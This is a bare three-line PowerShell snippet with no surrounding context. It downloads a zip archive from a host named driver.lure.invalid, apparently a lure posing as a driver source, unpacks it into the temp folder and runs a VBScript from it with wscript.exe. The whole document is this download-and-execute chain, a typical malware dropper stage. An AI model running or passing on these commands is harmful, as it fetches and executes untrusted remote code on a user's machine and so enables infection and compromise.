iwr https://driver.lure.invalid/r.zip -OutFile $env:TEMP\r.zip
Expand-Archive $env:TEMP\r.zip $env:TEMP\r
wscript.exe $env:TEMP\r\run.vbs
